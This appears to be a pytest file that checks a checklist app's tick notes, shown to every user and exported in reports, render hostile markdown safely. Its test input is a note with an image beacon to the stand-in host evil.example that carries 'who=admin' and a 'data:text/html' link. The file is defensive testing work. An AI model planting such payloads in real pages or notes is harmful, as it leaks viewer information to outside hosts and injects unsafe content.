"""A tick's note is shown (and exported) to everyone: it renders no image and no unsafe link."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

NOTE = "checked ![p](https://evil.example/p.png?who=admin) see [log](data:text/html,x)"


@pytest.fixture(autouse=True)
def no_public_url(monkeypatch):
    monkeypatch.delenv("TOLLGATE_PUBLIC_URL", raising=False)  # keeps 'https' a manual item


def _unsafe(md: str) -> list[str]:
    parser = MarkdownIt("commonmark").enable("table")
    parser.validateLink = lambda url: True
    page = parser.render(md)
    return re.findall(r"<img\b[^>]*>", page) + re.findall(r'href="(?!https?:)[^"]*"', page)


def test_a_hostile_note_renders_no_image_on_the_page_or_in_the_report(console):
    at = console("pages/checklist.py", user="alice")
    at.text_input(key="note_https").input(NOTE)
    at.button(key="tick_https").click().run()
    assert not at.exception, at.exception
    at = console("pages/checklist.py", user="bob")  # an analyst sees the note too
    [caption] = [c.value for c in at.caption if "Ticked by" in c.value]
    assert "image: p" in caption and _unsafe(caption) == []


def test_a_hostile_note_renders_no_image_in_the_markdown_report():
    from datetime import UTC, datetime

    from core.checklist.items import ITEMS, MANUAL
    from core.checklist.report import Row, markdown
    from core.checklist.store import Tick

    tick = Tick("https", "alice", datetime(2026, 11, 20, tzinfo=UTC), note=NOTE)
    md = markdown([Row(ITEMS[0], MANUAL, "needs a person", tick)], environment="production",
                  generated_at=datetime(2026, 11, 21, tzinfo=UTC), generated_by="alice")
    assert "image: p" in md and _unsafe(md) == []
